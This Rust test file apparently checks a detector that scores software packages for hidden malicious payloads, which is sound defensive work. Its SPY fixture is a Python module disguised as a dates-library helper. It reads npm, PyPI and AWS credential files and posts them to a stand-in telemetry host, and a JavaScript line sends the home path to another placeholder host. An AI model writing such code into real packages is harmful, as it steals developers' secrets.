//! Packages to scores by the model of the product.
#![expect(clippy::unwrap_used, reason = "tests")]

use std::sync::LazyLock;

use code_signals::{SourceFile, Subject, analyze};
use payload::{PayloadError, Payloads, read};
use proptest::prelude::*;

static MODEL: &[u8] = include_bytes!("../../../../models/payload.plm");
static PAYLOADS: LazyLock<Payloads<'static>> = LazyLock::new(|| Payloads::load(MODEL).unwrap());

fn score(files: &[(&str, &str)]) -> f32 {
    let files: Vec<SourceFile<'_>> =
        files.iter().map(|(path, text)| SourceFile { path, content: text.as_bytes() }).collect();
    let reading = read(&files, &analyze(&files, Subject::Package));
    PAYLOADS.judge(&reading).map_or(f32::MIN, |judged| judged.score)
}

/// A library of dates.
const DATES: &str = "
from datetime import date, timedelta

def add_days(start, days):
    if days < 0:
        raise ValueError('days is negative')
    return start + timedelta(days=days)

def weekdays(start, end):
    current = start
    while current < end:
        if current.weekday() < 5:
            yield current
        current = add_days(current, 1)
";

/// The same library with a step that dates do not need.
const SPY: &str = "
import getpass, json, os, platform, socket, subprocess, urllib.request

def _collect():
    info = {'user': getpass.getuser(), 'host': socket.gethostname(), 'os': platform.platform()}
    for name in ('.npmrc', '.pypirc', '.aws/credentials'):
        path = os.path.join(os.path.expanduser('~'), name)
        if os.path.exists(path):
            info[name] = open(path).read()
    return info

try:
    data = json.dumps(_collect()).encode()
    urllib.request.urlopen(urllib.request.Request('https://collect.telemetry.example/i', data=data), timeout=3)
except Exception:
    pass
";

#[test]
fn a_payload_scores_higher_than_the_library_around_it() {
    let clean = score(&[("dates/__init__.py", DATES)]);
    let with = score(&[("dates/__init__.py", DATES), ("dates/_compat.py", SPY)]);
    assert!(clean < PAYLOADS.notable, "{clean}");
    assert!(with >= PAYLOADS.payload, "{with} below {}", PAYLOADS.payload);
}

#[test]
fn the_clearest_window_is_the_payload_and_its_reasons_are_named() {
    let files = [("dates/__init__.py", DATES), ("dates/_compat.py", SPY)];
    let files: Vec<SourceFile<'_>> =
        files.iter().map(|(path, text)| SourceFile { path, content: text.as_bytes() }).collect();
    let reading = read(&files, &analyze(&files, Subject::Package));
    let judged = PAYLOADS.judge(&reading).unwrap();
    assert_eq!(judged.window.path, "dates/_compat.py");
    assert!(!judged.facts.is_empty() && !judged.words.is_empty(), "{judged:?}");
}

#[test]
fn comments_do_not_change_the_score() {
    let with =
        SPY.replace("    pass\n", "    # opt-in telemetry (see PRIVACY.md)\n    pass  # never fails\n");
    assert_eq!(score(&[("a.py", SPY)]).to_bits(), score(&[("a.py", &with)]).to_bits());
    let script =
        "/* a licence\n of two lines */\nfetch('https://host.example/' + process.env.HOME)\n// the end\n";
    let bare = "fetch('https://host.example/' + process.env.HOME)\n";
    assert_eq!(score(&[("a.js", script)]).to_bits(), score(&[("a.js", bare)]).to_bits());
}

#[test]
fn names_of_hosts_do_not_change_the_score() {
    let other = SPY.replace("collect.telemetry.example", "cdn.fonts.dev");
    assert_eq!(score(&[("a.py", SPY)]).to_bits(), score(&[("a.py", &other)]).to_bits());
}

#[test]
fn tests_and_files_that_are_not_code_are_not_judged() {
    let files = [("tests/test_dates.py", DATES), ("README.md", SPY), ("dates.pyi", DATES)];
    assert!(score(&files) <= f32::MIN);
}

#[test]
fn a_damaged_model_is_refused() {
    let mut bytes = MODEL.to_vec();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    assert!(matches!(Payloads::load(&bytes), Err(PayloadError::Model(_))));
}

#[test]
fn a_package_beyond_the_bounds_is_cut() {
    let long: String = (0..500_000).map(|number| format!("a{number}\n")).collect();
    let files: Vec<String> = (0..4).map(|number| format!("{number}.js")).collect();
    let files: Vec<SourceFile<'_>> =
        files.iter().map(|path| SourceFile { path, content: long.as_bytes() }).collect();
    assert!(read(&files, &code_signals::Report::default()).is_cut);
    assert!(!read(&files[..1], &code_signals::Report::default()).is_cut);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_has_a_score_and_windows_within_its_lines(text in "(\\PC|[\n\r#/*`])*{0,2000}", python in any::<bool>()) {
        let path = if python { "a.py" } else { "a.js" };
        let files = [SourceFile { path, content: text.as_bytes() }];
        let reading = read(&files, &analyze(&files, Subject::Package));
        let lines = u32::try_from(text.split('\n').count()).unwrap();
        for window in &reading.windows {
            prop_assert!(1 <= window.lines.0 && window.lines.0 <= window.lines.1 && window.lines.1 <= lines);
        }
        let judged = PAYLOADS.judge(&reading);
        prop_assert!(judged.is_none_or(|judged| judged.score.is_finite()));
    }
}
